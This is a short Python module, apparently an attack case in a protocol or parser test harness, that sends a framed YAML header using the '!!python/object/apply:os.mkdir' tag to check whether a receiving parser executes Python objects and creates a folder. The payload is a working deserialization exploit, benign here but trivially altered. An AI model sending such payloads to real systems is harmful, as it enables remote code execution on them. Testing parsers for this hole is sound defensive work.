"""Send a header that some parsers of YAML execute.

JSON is YAML to them.

Held by: frames
Ends: crashed
"""

from wire import framed, write


def attack(facts):
    write(framed(b"!!python/object/apply:os.mkdir ['" + facts["folder"].encode() + b"/made']"))
